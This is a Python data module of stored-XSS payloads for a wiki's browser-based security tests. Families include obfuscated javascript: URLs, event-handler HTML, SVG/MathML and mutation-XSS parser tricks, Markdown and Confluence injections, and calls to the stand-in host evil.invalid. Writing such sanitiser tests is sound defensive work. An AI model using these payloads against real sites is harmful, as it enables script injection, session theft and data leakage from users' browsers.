"""Stored-XSS payloads for the browser checks: data only, grouped by family.

Every payload tries to reach a marker: `alert(MARK)` (or confirm/prompt/print), a request to
http://evil.invalid/MARK, or a javascript:/vbscript:/data: URL that runs on a click. The test
replaces MARK with a number unique to each place a payload is stored, so whatever runs
names the payload that ran it. A few (base64 data: URLs) cannot carry the number inside;
they are attributed by the page they are opened on, one page per payload.

Plain external images (`![](https://elsewhere/x.png)`) are a feature of the wiki, not a
payload, so none is used here as a marker: the other-origin requests these payloads try are
the ones no page may make (stylesheets, scripts, frames, base, refresh, srcset, forms).
"""

# Ways to spell a URL that runs script; each is tried in several Markdown and HTML contexts
# (URL_CONTEXTS below). Control characters, tabs and newlines inside the scheme are removed
# by browsers, entities are decoded in attributes, and a javascript: URL percent-decodes.
SCRIPT_URLS = (
    "javascript:alert(MARK)",
    "JavaScript:alert(MARK)",
    "JAVASCRIPT:alert(MARK)",
    "jAvAsCrIpT:confirm(MARK)",
    " javascript:alert(MARK)",
    "\x01javascript:alert(MARK)",
    "\x0ejavascript:alert(MARK)",
    "\x1f javascript:alert(MARK)",
    "java\tscript:alert(MARK)",
    "java\nscript:alert(MARK)",
    "java\rscript:alert(MARK)",
    "jav\x0bascript:alert(MARK)",
    "javascript&colon;alert(MARK)",
    "javascript&#58;alert(MARK)",
    "javascript&#058alert(MARK)",
    "javascript&#0000058;alert(MARK)",
    "javascript&#x3a;alert(MARK)",
    "javascript&#X3A;alert(MARK)",
    "javascript&#x003A;alert(MARK)",
    "javascript&#x3aalert(MARK)",
    "&#106;avascript:alert(MARK)",
    "&#x6A;avascript:alert(MARK)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058alert(MARK)",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3aalert(MARK)",
    "&#x0000006a;&#x00061;vascript:alert(MARK)",
    "jav&#x09;ascript:alert(MARK)",
    "jav&#x0A;ascript:alert(MARK)",
    "jav&#x0D;ascript:alert(MARK)",
    "jav&Tab;ascript:alert(MARK)",
    "java&NewLine;script:alert(MARK)",
    "&#x09;&#x0a; javascript:alert(MARK)",
    "&#14;javascript:alert(MARK)",
    "javascript&#0;:alert(MARK)",
    "java%00script:alert(MARK)",
    "javascript:%61lert(MARK)",
    "javascript:alert%28MARK%29",
    "%6Aavascript:alert(MARK)",
    "javascript%3Aalert(MARK)",
    "javascript://%0aalert(MARK)",
    "javascript:alert&lpar;MARK&rpar;",
    "javascript:fetch('//evil.invalid/MARK')",
    "javascript:alert(MARK)//https://example.com/",
    "vbscript:msgbox(MARK)",
    "VBScript:MsgBox(MARK)",
    "data:text/html,<script>alert(MARK)</script>",
    "DATA:text/html,%3Cscript%3Ealert(MARK)%3C/script%3E",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgwKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(MARK)'/>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9h"
    "ZD0iYWxlcnQoMCkiLz4=",
    "data:application/javascript,alert(MARK)",
)

# Where a URL goes: each template's URL is replaced by every spelling above. The first two
# take every spelling; the rest a sample of them (see URL_CONTEXT_SAMPLE).
URL_CONTEXTS = (
    "[click me](URL)",
    '<a href="URL">click me</a>',
)
# Contexts tried with the first few spellings only, which already cover case, whitespace,
# entities and the three schemes; the full product would add pages, not coverage.
SAMPLED_URL_CONTEXTS = (
    "[click me](<URL>)",
    '[click me](URL "a title")',
    "![picture](URL)",
    '<img src="URL" alt="x">',
    "[click me][rMARK]\n\n[rMARK]: URL",
    "[click me][tMARK]\n\n[tMARK]: <URL> 'title'",
    "<URL>",
    "<a href='URL' title='x'>quoted</a>",
    "<a href=URL>unquoted</a>",
)
URL_CONTEXT_SAMPLE = (
    "javascript:alert(MARK)",
    "JaVaScRiPt:alert(MARK)",
    "java\tscript:alert(MARK)",
    "&#106;avascript:alert(MARK)",
    "javascript&#x3a;alert(MARK)",
    "vbscript:msgbox(MARK)",
    "data:text/html,<script>alert(MARK)</script>",
)

# Raw HTML in the page text: script, frames, plugins, forms, base, refresh, stylesheets,
# and event handlers on every kind of tag, allowed or not.
RAW_HTML = (
    "<script>alert(MARK)</script>",
    "<SCRIPT>alert(MARK)</SCRIPT>",
    "<script src=//evil.invalid/MARK.js></script>",
    "<script>fetch('//evil.invalid/MARK')</script>",
    "<scr<script>ipt>alert(MARK)</scr</script>ipt>",
    '<script type="module">alert(MARK)</script>',
    "<img src=x onerror=alert(MARK)>",
    '<img src="x" onerror="alert(MARK)">',
    "<IMG SRC=x OnErRoR=alert(MARK)>",
    "<img src=x onerror=&#97;lert(MARK)>",
    "<img/src=x/onerror=alert(MARK)>",
    "<img src=x:alert(MARK) onerror=eval(src)>",
    '<img src=x onerror="javascript:alert(MARK)">',
    '<img src="x" alt="ok" title="t" width="1" onload=alert(MARK) onerror=alert(MARK)>',
    '<img srcset="//evil.invalid/MARK.png 1x" alt="x">',
    '<iframe src="javascript:alert(MARK)"></iframe>',
    "<iframe src=//evil.invalid/MARK></iframe>",
    '<iframe srcdoc="<script>parent.alert(MARK)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.alert(MARK)&gt;"></iframe>',
    '<object data="javascript:alert(MARK)"></object>',
    '<object data="data:text/html,<script>alert(MARK)</script>"></object>',
    "<object data=//evil.invalid/MARK.swf type=application/x-shockwave-flash></object>",
    '<embed src="javascript:alert(MARK)">',
    "<embed src=//evil.invalid/MARK.swf>",
    '<form action="javascript:alert(MARK)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(MARK)">go</button></form>',
    '<form id="f1" action="//evil.invalid/MARK"></form><button form="f1">go</button>',
    '<form action="//evil.invalid/MARK"><input type=image src=//evil.invalid/MARK.png></form>',
    '<base href="//evil.invalid/MARK/">',
    '<base href="javascript:alert(MARK)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(MARK)">',
    '<meta http-equiv="refresh" content="0;url=//evil.invalid/MARK">',
    '<link rel="stylesheet" href="//evil.invalid/MARK.css">',
    '<link rel="prefetch" href="//evil.invalid/MARK">',
    '<link rel="preload" as="script" href="//evil.invalid/MARK.js">',
    "<style>@import '//evil.invalid/MARK.css';</style>",
    "<style>body{background:url(//evil.invalid/MARK.png)}</style>",
    "<style>*{width:expression(alert(MARK))}</style>",
    '<div style="background:url(//evil.invalid/MARK.png)">styled</div>',
    '<div style="width:expression(alert(MARK))">styled</div>',
    '<span style="background-image:url(javascript:alert(MARK))">styled</span>',
    '<p style="behavior:url(//evil.invalid/MARK.htc)">styled</p>',
    "<body onload=alert(MARK)>",
    "<input autofocus onfocus=alert(MARK)>",
    "<select autofocus onfocus=alert(MARK)><option>x</option></select>",
    "<textarea autofocus onfocus=alert(MARK)>x</textarea>",
    "<keygen autofocus onfocus=alert(MARK)>",
    "<video><source onerror=alert(MARK)></video>",
    "<video src=x onerror=alert(MARK)></video>",
    "<video poster=//evil.invalid/MARK.png></video>",
    "<audio src=x onerror=alert(MARK)></audio>",
    "<details open ontoggle=alert(MARK)><summary>s</summary>x</details>",
    "<marquee onstart=alert(MARK)>x</marquee>",
    "<div onmouseover=alert(MARK)>hover</div>",
    '<a href="#" onclick="alert(MARK)">click</a>',
    "<a href=x autofocus onfocus=alert(MARK)>focus</a>",
    "<p tabindex=0 autofocus onfocus=alert(MARK)>focus</p>",
    "<h2 id=x tabindex=1 autofocus onfocus=alert(MARK)>heading</h2>",
    "<abbr title=x onmouseenter=alert(MARK)>abbr</abbr>",
    "<table background=//evil.invalid/MARK.png><tr><td background=x onclick=alert(MARK)>c</td>"
    "</tr></table>",
    "<isindex action=javascript:alert(MARK) type=image>",
    "<frameset onload=alert(MARK)><frame src=javascript:alert(MARK)></frameset>",
    "<applet code=javascript:alert(MARK)></applet>",
    "<custom-tag onclick=alert(MARK)>custom</custom-tag>",
    "<blockquote cite=javascript:alert(MARK) onclick=alert(MARK)>q</blockquote>",
    "<ol start=1 onclick=alert(MARK)><li>x</li></ol>",
    '<code class="language-x" onclick="alert(MARK)">c</code>',
    '<a href="https://example.com/" ping="//evil.invalid/MARK">ping</a>',
    # htmx is on every page: its attributes in content would make requests or run code.
    '<div hx-get="//evil.invalid/MARK" hx-trigger="load">htmx</div>',
    '<div hx-on:htmx:load="alert(MARK)">htmx</div>',
    '<img src=x data-hx-get="/?MARK" hx-trigger="load" hx-on::after-request="alert(MARK)">',
    '<a href="/" hx-get="//evil.invalid/MARK" hx-trigger="mouseover">htmx link</a>',
)

# SVG and MathML: script, animations that set href or handlers, foreignObject, use and
# image references, and MathML's href and its mglyph/malignmark parsing quirks.
SVG_MATH = (
    "<svg onload=alert(MARK)>",
    "<svg/onload=alert(MARK)//",
    "<svg><script>alert(MARK)</script></svg>",
    "<svg><script href=//evil.invalid/MARK.js></script></svg>",
    "<svg><animate onbegin=alert(MARK) attributeName=x dur=1s>",
    '<svg><a><animate attributeName=href values="javascript:alert(MARK)"/>'
    "<text x=20 y=20>click</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(MARK)><rect width=9 height=9/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(MARK)></foreignObject></svg>",
    '<svg><use href="//evil.invalid/MARK.svg#x"/></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(MARK)'/></svg>#x\"/></svg>",
    "<svg><image href=//evil.invalid/MARK.png /></svg>",
    "<svg><image xlink:href=x onerror=alert(MARK) /></svg>",
    '<svg><a xlink:href="javascript:alert(MARK)"><text x=9 y=9>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(MARK)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(MARK)>">',
    "<svg><title><![CDATA[</title><img src=x onerror=alert(MARK)>]]></title></svg>",
    '<math href="javascript:alert(MARK)">math</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(MARK)>m</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(MARK)></style></mglyph>"
    "</table></mtext></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
    'onerror=alert(MARK)&gt;"></style></mglyph></table></mtext></math>',
    "<math><mi><malignmark><style><img src=x onerror=alert(MARK)></style></malignmark></mi></math>",
    '<math><mtext><h1><a><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(MARK)>"></style></h1>',
)

# Mutation XSS: markup that a sanitiser's parse and the browser's re-parse read differently.
MUTATION = (
    '<noscript><p title="</noscript><img src=x onerror=alert(MARK)>"></noscript>',
    "<style><img src=x onerror=alert(MARK)></style>",
    "<template><img src=x onerror=alert(MARK)></template>",
    "<!--><img src=x onerror=alert(MARK)>-->",
    "<!--><img src=x onerror=alert(MARK)>",
    "<!-- --!><img src=x onerror=alert(MARK)> -->",
    "<![CDATA[><img src=x onerror=alert(MARK)>]]>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(MARK)>",
    "<form><form>nested</form><img src=x onerror=alert(MARK)></form>",
    "</p><img src=x onerror=alert(MARK)>",
    "<p></p><img src=x onerror=alert(MARK)></p>",
    "<textarea></textarea><img src=x onerror=alert(MARK)>",
    "<title><img src=x onerror=alert(MARK)></title>",
    "<xmp><img src=x onerror=alert(MARK)></xmp>",
    "<iframe><img src=x onerror=alert(MARK)></iframe>",
    "<noembed><img src=x onerror=alert(MARK)></noembed>",
    "<noframes><img src=x onerror=alert(MARK)></noframes>",
    "<plaintext><img src=x onerror=alert(MARK)>",
    '<a title="<img src=x onerror=alert(MARK)>">markup in a title</a>',
    '<img alt="</p><img src=x onerror=alert(MARK)>" src=x>',
    "<select><template><img src=x onerror=alert(MARK)></template></select>",
    "<table><td><img src=x onerror=alert(MARK)>",
    "<div><style><!--</style><img src=x onerror=alert(MARK)>--></div>",
    '<a href="https://example.com/" title=\'"><img src=x onerror=alert(MARK)>\'>t</a>',
    "<</p>img src=x onerror=alert(MARK)>",
)

# Markdown that ends up inside attributes or code: link and image titles, alt text, code
# spans and fences (including the info string, which becomes a class), table cells,
# headings (which get ids), callout and expand titles, task items and the TOC.
MARKDOWN = (
    '[x](https://example.com/ "t\\" onmouseover=\\"alert(MARK)")',
    "[x](https://example.com/ 'a\\' onmouseover=alert(MARK) \\'')",
    '[x](https://example.com/ "`onmouseover=alert(MARK)`")',
    '[x](https://example.com/ (" onmouseover="alert(MARK)))',
    '![a" onerror="alert(MARK)](x.png)',
    '![`" onerror=alert(MARK) x="`](x.png)',
    '![x](x.png "t\\" onerror=\\"alert(MARK)")',
    '![x](x.png"onerror="alert(MARK))',
    "`<img src=x onerror=alert(MARK)>`",
    "``a` <script>alert(MARK)</script> `b``",
    "```\n<script>alert(MARK)</script>\n```",
    '```html" onmouseover="alert(MARK)\nx\n```',
    "~~~ language-x\" onclick='alert(MARK)'\nx\n~~~",
    "    <script>alert(MARK)</script>",
    '| a | b |\n|---|---|\n| <img src=x onerror=alert(MARK)> | `"><svg onload=alert(MARK)>` |',
    '| a" onclick="alert(MARK) |\n|:-:|\n| [x](javascript:alert(MARK)) |',
    '## Heading "><img src=x onerror=alert(MARK)>',
    "# <img src=x onerror=alert(MARK)>",
    '## x {: onclick="alert(MARK)" }',
    '[TOC]\n\n## <a href="javascript:alert(MARK)">toc</a>\n\n## \'"><svg onload=alert(MARK)>',
    '!!! note "\\"><img src=x onerror=alert(MARK)>"\n    body',
    '!!! note" onclick="alert(MARK)\n    body',
    '??? expand "<svg onload=alert(MARK)>"\n    body',
    "- [ ] <img src=x onerror=alert(MARK)>\n- [x] [done](javascript:alert(MARK))",
    "> <img src=x onerror=alert(MARK)>\n> [quote](javascript:alert(MARK))",
    "*<img src=x onerror=alert(MARK)>*",
    "[<img src=x onerror=alert(MARK)>](https://example.com/)",
    "[![x](javascript:alert(MARK))](javascript:alert(MARK))",
    "\\<script>alert(MARK)\\</script>",
    "&lt;script&gt;alert(MARK)&lt;/script&gt;",
    '<http://example.com/"onmouseover="alert(MARK)>',
    "<mailto:x@example.com?body=<script>alert(MARK)</script>>",
)

# [[wiki links]]: targets become ?title=... URLs or page links, labels become link text.
WIKI_LINKS = (
    "[[javascript:alert(MARK)]]",
    "[[<img src=x onerror=alert(MARK)>]]",
    "[[x|<svg onload=alert(MARK)>]]",
    '[["><img src=x onerror=alert(MARK)>]]',
    '[[x" onmouseover="alert(MARK)]]',
    "[[' onmouseover='alert(MARK)]]",
    "[[&lt;script&gt;alert(MARK)&lt;/script&gt;]]",
    "[[%22%3E%3Cscript%3Ealert(MARK)%3C/script%3E]]",
    "[[x|javascript:alert(MARK)]]",
    "[[data:text/html,<script>alert(MARK)</script>]]",
    "[[x?title=<script>alert(MARK)</script>&kind=decision]]",
    "[[`<script>alert(MARK)</script>`|label]]",
)

# Change notes, attachment names and query strings are plain text: these are the ones that
# fit there (no newlines, short) and try to leave the element or attribute they land in.
PLAIN_TEXT = (
    "<script>alert(MARK)</script>",
    "<img src=x onerror=alert(MARK)>",
    '"><img src=x onerror=alert(MARK)>',
    "'><svg onload=alert(MARK)>",
    "`><svg onload=alert(MARK)>",
    '" onmouseover="alert(MARK)" x="',
    "' autofocus onfocus='alert(MARK)",
    "</title><script>alert(MARK)</script>",
    "</textarea><img src=x onerror=alert(MARK)>",
    "</script><script>alert(MARK)</script>",
    "{{ '<img src=x onerror=alert(MARK)>' }}",
    "&lt;img src=x onerror=alert(MARK)&gt;",
    "javascript:alert(MARK)",
    "[hl-x]<img src=x onerror=alert(MARK)>[/hl-x]",
)

# Confluence storage format: its own elements carry titles, link bodies, macro parameters
# (a code block's language, a panel's title) and CDATA that the importer turns into Markdown.
CONFLUENCE_STORAGE = (
    '<ac:link><ri:page ri:content-title="&lt;img src=x onerror=alert(MARK)&gt;"/>'
    "<ac:plain-text-link-body><![CDATA[<svg onload=alert(MARK)>]]></ac:plain-text-link-body>"
    "</ac:link>",
    '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(MARK)'
    "</script><img src=x onerror=alert(MARK)>]]></ac:plain-text-body></ac:structured-macro>",
    '<ac:structured-macro ac:name="code"><ac:parameter ac:name="language">x" onclick="'
    "alert(MARK)</ac:parameter><ac:plain-text-body><![CDATA[</code></pre><script>alert(MARK)"
    "</script>]]></ac:plain-text-body></ac:structured-macro>",
    '<ac:structured-macro ac:name="info"><ac:parameter ac:name="title">"&gt;&lt;img src=x '
    "onerror=alert(MARK)&gt;</ac:parameter><ac:rich-text-body><p>panel</p></ac:rich-text-body>"
    "</ac:structured-macro>",
    '<ac:structured-macro ac:name="expand"><ac:parameter ac:name="title">&lt;svg onload='
    "alert(MARK)&gt;</ac:parameter><ac:rich-text-body><p>x</p></ac:rich-text-body>"
    "</ac:structured-macro>",
    '<ac:image><ri:url ri:value="javascript:alert(MARK)"/></ac:image>',
    '<ac:image ac:alt="&quot;&gt;&lt;img src=x onerror=alert(MARK)&gt;">'
    '<ri:attachment ri:filename="x.png"/></ac:image>',
    '<ac:link><ri:attachment ri:filename="&quot;&gt;&lt;svg onload=alert(MARK)&gt;"/></ac:link>',
    '<ac:link><ri:user ri:username="&lt;img src=x onerror=alert(MARK)&gt;"/></ac:link>',
    "<ac:task-list><ac:task><ac:task-status>incomplete</ac:task-status><ac:task-body>"
    "<img src=x onerror=alert(MARK)></ac:task-body></ac:task></ac:task-list>",
    '<table><tbody><tr><th>h</th></tr><tr><td><a href="javascript:alert(MARK)">c</a> | '
    "<img src=x onerror=alert(MARK)></td></tr></tbody></table>",
    '<p><a href="jav&#x09;ascript:alert(MARK)">entity</a> <a href="//evil.invalid/MARK">ok</a></p>',
    "<pre>&lt;script&gt;alert(MARK)&lt;/script&gt;</pre><code>&lt;img src=x onerror="
    "alert(MARK)&gt;</code>",
)
